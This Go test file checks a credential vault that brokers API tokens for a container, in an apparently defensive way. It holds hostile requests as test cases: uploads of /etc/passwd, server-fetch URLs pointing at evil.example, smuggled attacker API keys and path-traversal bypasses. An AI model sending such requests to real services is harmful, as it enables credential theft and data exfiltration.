package tasks

import (
	"encoding/json"
	"fmt"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	"terok/internal/verify"
	"terok/test/fakeapi"
)

// withProviders points the routes of more providers at a fake and stores a token for each.
func (tr *tree) withProviders(api *fakeapi.Server, keys map[string]string) {
	tr.t.Helper()
	file := fmt.Sprintf("upstream: %s\nca_file: %s\nallow_private: true\n", api.URL(), api.CAFile())
	for name, key := range keys {
		tr.file("config/terok/providers/"+name+".yml", file)
		if _, _, err := tr.try(0, key+"\n", "", "auth", name, "--api-key-stdin"); err != nil {
			tr.t.Fatal(err)
		}
	}
}

// TestProviders attacks the vault from a container that may use four providers: what goes out
// carries the right key in the right place, what must not go out does not.
// spec/vault.md §10: 8, 22, 24, 25, 38, 39, 43, 44.
func TestProviders(t *testing.T) {
	t.Parallel()
	tr := newTree(t)
	tr.withVault(time.Hour)
	api, err := fakeapi.Start(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(api.Close)
	keys := map[string]string{"github": "ghp_REAL" + random(), "gitlab": "glpat-REAL" + random(), "openai": "sk-proj-REAL" + random(), "coderabbit": "cr-REAL" + random()}
	tr.withProviders(api, keys)
	repo := tr.repo("greet")
	if out, err := exec.Command("git", "-C", repo, "remote", "add", "origin", "https://github.com/acme/shop.git").CombinedOutput(); err != nil {
		t.Fatalf("%s %v", out, err)
	}
	tr.file("config/terok/projects/greet/project.yml", "project: {name: greet}\ngit: {upstream_url: "+repo+"}\nvault:\n  providers: [github, gitlab, openai, coderabbit]\n  policy: {openai: [\"deny POST /v1/embeddings\"]}\n")
	task := tr.start(repo, "script")
	tr.ready(task)
	call := func(variable, header, method, url, body string, more ...string) (status, code string) {
		t.Helper()
		args := ""
		for _, m := range more {
			args += " -H '" + m + "'"
		}
		if strings.HasPrefix(body, "-") { // for curl
			args += " " + body
		} else if body != "" {
			args += " -H 'Content-Type: application/json' -d '" + body + "'"
		}
		out := inside(t, task, fmt.Sprintf(`t=$(jq -r .%s /run/terok/env.json); curl -sS --path-as-is --cacert /run/terok/ca/bundle.pem --max-time 10 -o /dev/null -w '%%{http_code} %%header{x-terok-broker}' -X %s -H "%s$t"%s '%s' 2>&1; true`,
			variable, method, header, args, url))
		status, code, _ = strings.Cut(strings.TrimSpace(out), " ")
		return status, code
	}
	inside(t, task, `echo '{"diff":"x"}' | gzip > /tmp/good.gz; echo '{"api_key":"sk-attacker-0123456789"}' | gzip > /tmp/bad.gz`)
	const packed = "-H 'Content-Type: application/json' --data-binary @/tmp/"
	const gh, gl, oa, cr = "GH_TOKEN", "GITLAB_TOKEN", "OPENAI_API_KEY", "CODERABBIT_API_KEY"
	for _, c := range []struct{ variable, header, method, url, body, header2, want string }{
		{gh, "Authorization: token ", "GET", "https://api.github.com/user", "", "", "200"},
		{gh, "Authorization: Bearer ", "POST", "https://api.github.com/repos/acme/shop/issues", `{"title":"t"}`, "", "200"},
		{gh, "Authorization: token ", "POST", "https://api.github.com/repositories/42/issues", `{"title":"t"}`, "", "200"},
		{gh, "Authorization: token ", "POST", "https://api.github.com/graphql", `{"query":"mutation{addComment(input:{subjectId:\"I_shop\",body:\"b\"}){x}}"}`, "", "200"},
		{gl, "PRIVATE-TOKEN: ", "GET", "https://gitlab.com/api/v4/user", "", "", "200"},
		{oa, "Authorization: Bearer ", "POST", "https://api.openai.com/v1/responses", `{"model":"m","input":"hi"}`, "", "200"},
		{oa, "X-Api-Key: ", "POST", "https://api.openai.com/v1/chat/completions", `{"model":"m","messages":[]}`, "Connection: authorization, x-api-key", "200"},
		{cr, "Authorization: Bearer ", "POST", "https://app.coderabbit.ai/api/cli/review", `{"diff":"x"}`, "", "200"},
		{cr, "Authorization: Bearer ", "POST", "https://app.coderabbit.ai/api/cli/review", "-F purpose=review -F file=@/etc/passwd", "", "200"},
		{cr, "Authorization: Bearer ", "POST", "https://app.coderabbit.ai/api/cli/review", packed + "good.gz", "Content-Encoding: gzip", "200"},

		{gh, "Authorization: token ", "POST", "https://api.github.com/repos/acme/other/issues", `{"title":"t"}`, "", "403 repo_denied"},
		{gh, "Authorization: token ", "POST", "https://api.github.com/repositories/43/issues", `{"title":"t"}`, "", "403 repo_denied"},
		{gh, "Authorization: token ", "POST", "https://api.github.com/gists", `{"files":{}}`, "", "403 repo_denied"},
		{gh, "Authorization: token ", "POST", "https://api.github.com/graphql", `{"query":"mutation{addComment(input:{subjectId:\"I_other\",body:\"b\"}){x}}"}`, "", "403 repo_denied"},
		{gh, "Authorization: token ", "POST", "https://api.github.com/graphql", `[{"query":"mutation{addComment:deleteRepository(input:{}){x}}"}]`, "", "403 path_denied"},
		{gh, "Authorization: token ", "POST", "https://api.github.com/user/keys", `{"key":"x"}`, "", "403 path_denied"},
		{gh, "Authorization: token ", "POST", "https://api.github.com/User/Keys", `{}`, "", "403 path_denied"},
		{gh, "Authorization: token ", "POST", "https://api.github.com//user/keys", `{}`, "", "400 bad_target"},
		{gh, "Authorization: token ", "POST", "https://api.github.com/x/%2e%2e/user/keys", `{}`, "", "400 bad_target"},
		{gh, "Authorization: token ", "GET", "https://api.github.com/user/keys", "", "X-HTTP-Method-Override: POST", "403 path_denied"},
		{gh, "Authorization: token ", "GET", "https://api.github.com/copilot_internal/v2/token", "", "", "403 path_denied"},
		{gl, "PRIVATE-TOKEN: ", "POST", "https://gitlab.com/api/v4/personal_access_tokens/self/rotate", "", "", "403 path_denied"},
		{gl, "PRIVATE-TOKEN: ", "POST", "https://gitlab.com/api/v4/personal_access_tokens/self/rotate.json", "", "", "403 path_denied"},
		{gl, "PRIVATE-TOKEN: ", "POST", "https://gitlab.com/api/v4/projects/acme%2Fshop/issues", `{}`, "", "403 repo_denied"},
		{oa, "Authorization: Bearer ", "POST", "https://api.openai.com/v1/organization/admin_api_keys", `{}`, "", "403 path_denied"},
		{oa, "Authorization: Bearer ", "POST", "https://api.openai.com/v1/embeddings", `{}`, "", "403 path_denied"},
		{oa, "Authorization: Bearer ", "POST", "https://api.openai.com/v1/responses", `{"input":[{"content":[{"image_url":"https://evil.example/?d=1"}]}]}`, "", "403 server_fetch"},
		{oa, "Authorization: Bearer ", "POST", "https://api.openai.com/v1/responses", `{"input":"x"}`, "X-Api-Key: sk-attacker-0123456789", "403 foreign_credential"},
		{oa, "Authorization: Bearer ", "POST", "https://api.openai.com/v1/responses", `{"input":"x","api_key":"sk-attacker-0123456789"}`, "", "403 foreign_credential"},
		{oa, "Authorization: Bearer ", "POST", "https://api.openai.com/v1/files", "-F purpose=user_data -F file=@/etc/passwd", "", "403 path_denied"},
		{cr, "Authorization: Bearer ", "POST", "https://app.coderabbit.ai/api/cli/review", "-F file=@/etc/passwd -F api_key=sk-attacker-0123456789", "", "403 foreign_credential"},
		{cr, "Authorization: Bearer ", "POST", "https://app.coderabbit.ai/api/cli/review", "-F file_url=https://evil.example/", "", "403 server_fetch"},
		{cr, "Authorization: Bearer ", "POST", "https://app.coderabbit.ai/api/cli/review", packed + "bad.gz", "Content-Encoding: gzip", "403 foreign_credential"},
		{oa, "Authorization: Bearer ", "GET", "https://api.github.com/user", "", "", "403 no_route"},
	} {
		before := len(api.Requests())
		var more []string
		if c.header2 != "" {
			more = append(more, c.header2)
		}
		status, code := call(c.variable, c.header, c.method, c.url, c.body, more...)
		if got := strings.TrimSpace(status + " " + code); got != c.want {
			t.Errorf("%s %s %s: %s, not %s", c.method, c.url, c.body, got, c.want)
		}
		if arrived := len(api.Requests()) > before; arrived != (c.want == "200") {
			t.Errorf("%s %s %s arrived: %v", c.method, c.url, c.body, arrived)
		}
	}
	for _, r := range api.Requests() {
		sent := r.Header.Get("Authorization") + r.Header.Get("Private-Token") + r.Header.Get("X-Api-Key")
		if !slices.Contains([]string{"token " + keys["github"], keys["gitlab"], "Bearer " + keys["openai"], "Bearer " + keys["coderabbit"]}, sent) {
			t.Errorf("%s %s came with %q", r.Method, r.Path, sent)
		}
	}
	// Nobody reaches a provider or a token endpoint but through the vault.
	for _, host := range []string{"auth.openai.com", "console.anthropic.com", "openrouter.ai"} {
		if out := inside(t, task, `curl -sS -k --max-time 10 -o /dev/null -w '%{http_code}' https://`+host+`/ 2>&1; true`); !strings.Contains(out, "000") && !strings.HasSuffix(strings.TrimSpace(out), "401") {
			t.Errorf("%s: %s", host, out)
		}
	}
	// What the guest starts trusts the vault: git is answered; Java finds a key store. (The others: the
	// agents themselves, and make test-agents.)
	trust := inside(t, task, `eval "$(jq -r 'to_entries[]|"export \(.key)=\(.value|@sh)"' /run/terok/env.json)"; GIT_TERMINAL_PROMPT=0 git ls-remote https://api.openai.com/v1/models 2>&1; echo "$JAVA_TOOL_OPTIONS"; od -An -tx1 -N8 /run/terok/ca/java.jks`)
	for _, want := range []string{"terminal prompts disabled", "-Djavax.net.ssl.trustStore=/run/terok/ca/java.jks\n", "fe ed fe ed 00 00 00 02"} {
		if !strings.Contains(trust, want) {
			t.Errorf("no %q in:\n%s", want, trust)
		}
	}
	// Each real key is nowhere inside.
	for name, key := range keys {
		if out := inside(t, task, `grep -rlsF '`+key[len(key)-16:]+`' /run /home /tmp /workspace /proc/[0-9]*/environ 2>/dev/null | head -3; true`); out != "" {
			t.Errorf("the key of %s lies in %s", name, out)
		}
	}
	var learned []struct{ Method, Path, Rule string }
	tr.decode(&learned, "", "vault", "policy", "learn", "greet/"+task.ID)
	if !slices.ContainsFunc(learned, func(l struct{ Method, Path, Rule string }) bool { return l.Rule == "allow POST /v1/embeddings" }) {
		t.Errorf("learned %+v", learned)
	}
	tr.run(1, "", "vault", "policy", "test", "greet", "openai", "POST", "/v1/embeddings")
	tr.run(0, "", "vault", "policy", "test", "greet", "openai", "POST", "/v1/responses")

	before := len(api.Requests())
	var report verify.Report
	out, errs, err := tr.try(0, "", "", "verify", "greet/"+task.ID, "--yes", "--json")
	if err != nil {
		t.Fatalf("%v\n%s%s", err, out, errs)
	}
	if err := json.Unmarshal([]byte(out), &struct{ Data *verify.Report }{&report}); err != nil {
		t.Fatal(err)
	}
	for _, row := range report.Rows {
		if strings.HasPrefix(row.Row, "vault-") {
			t.Logf("%s: %v %s", row.Row, row.OK, row.Proof)
			if !row.OK || strings.Contains(row.Proof, "nothing of the kind") {
				t.Errorf("%s: %s", row.Row, row.Proof)
			}
		}
	}
	if n := len(api.Requests()) - before; n != 0 {
		t.Errorf("%d attacks of verify reached a provider", n)
	}
}
